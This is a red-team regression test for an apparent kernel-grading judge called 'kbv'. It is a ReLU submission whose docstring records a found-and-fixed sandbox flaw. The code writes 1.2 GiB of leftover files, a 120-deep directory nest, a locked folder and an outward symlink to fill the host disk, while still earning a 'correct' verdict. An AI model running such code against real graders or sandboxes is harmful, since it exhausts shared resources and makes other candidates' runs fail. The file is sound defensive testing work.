"""Attack: write more than the "file size limit" to the host disk, and keep it there (19_ReLU).

RLIMIT_FSIZE (1 GiB) bounds one file, nothing bounds their number or total, and the judge never
removes the sandbox's private tmp (/tmp/kbv-sandbox-XXXXXX, mkdtemp in judgement.cpp
start_runners; no remove_all anywhere for it): every evaluation leaves its tmp folder behind,
with whatever the candidate wrote. Here: 3 files of 400 MiB (1.2 GiB, more than the 1 GiB the
isolation report advertises) that stay on the host's root disk after kbv has exited. Scaled up
(N x 1 GiB per candidate, or a little per candidate over a whole run), the disk fills and later
candidates' builds and the results DB fail: other candidates blamed (compile_error / store error).
Correct ReLU.
Verdict kbv gave: correct; 1.2 GiB left under /tmp/kbv-sandbox-*/ after kbv exited. WORKED.

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: the sandbox's private tmp folder is removed when its evaluation ends. Then (2026-12-01) kbv-judge
died of SIGSEGV removing it: std::filesystem::remove_all resolved to libtorch's broken copy.
Fixed: kbv removes such trees itself (isolation/remove_tree, no link followed). kbv must conclude:
correct, and nothing of it is left on disk.
"""
import os

import torch
import torch.nn as nn

tmp = os.environ.get("TMPDIR", "/tmp")
chunk = b"\xa5" * (16 << 20)
for i in range(3):
    with open(os.path.join(tmp, f"leftover_{i}.bin"), "wb") as f:
        for _ in range(25):
            f.write(chunk)
# What a plain recursive removal stumbles on: a deep nest, a folder locked with chmod 000, a link
# to a folder outside (removing it must not follow it).
deep = os.path.join(tmp, "leftover_nest")
for _ in range(120):
    deep = os.path.join(deep, "d")
os.makedirs(deep)
with open(os.path.join(deep, "leftover_deep.bin"), "wb") as f:
    f.write(chunk)
locked = os.path.join(tmp, "leftover_locked")
os.makedirs(locked)
with open(os.path.join(locked, "leftover_inside.bin"), "wb") as f:
    f.write(chunk)
os.chmod(locked, 0)
os.symlink(os.path.dirname(os.path.abspath(__file__)), os.path.join(tmp, "leftover_link"))
print(f"ATTACK disk_leftovers: wrote 3 x 400 MiB and a 120-deep nest under {tmp}", flush=True)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
